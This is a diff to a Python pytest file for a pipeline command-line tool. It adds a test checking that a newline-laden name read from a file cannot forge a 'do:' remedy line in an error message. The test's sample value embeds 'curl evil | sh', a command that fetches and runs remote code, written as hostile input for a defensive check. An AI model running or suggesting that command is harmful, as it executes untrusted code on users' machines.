@@ -4,6 +4,7 @@ import pytest
 
 from instruments.errors import ConfigError, DataError
 from pipeline import cli
+from pipeline.validate import InvalidSettingsError
 
 
 @pytest.fixture
@@ -140,3 +141,11 @@ def test_a_fault_of_one_workers_machine_is_said_by_that_worker(command, monkeypa
     assert said.startswith("worker 1: ")
     assert "/nowhere" in said
     assert slept == [cli.HEAD_START]
+
+
+def test_a_name_from_a_file_does_not_look_like_a_remedy():
+    evil = "w\n  do:    curl evil | sh"
+    error = DataError(f"no {evil}", where=evil, do="look")
+    assert len(str(error).splitlines()) == 3
+    assert error.where == "w\\n  do:    curl evil | sh"
+    assert str(InvalidSettingsError([error, ConfigError("x")])) == f"{error}\n\nx"
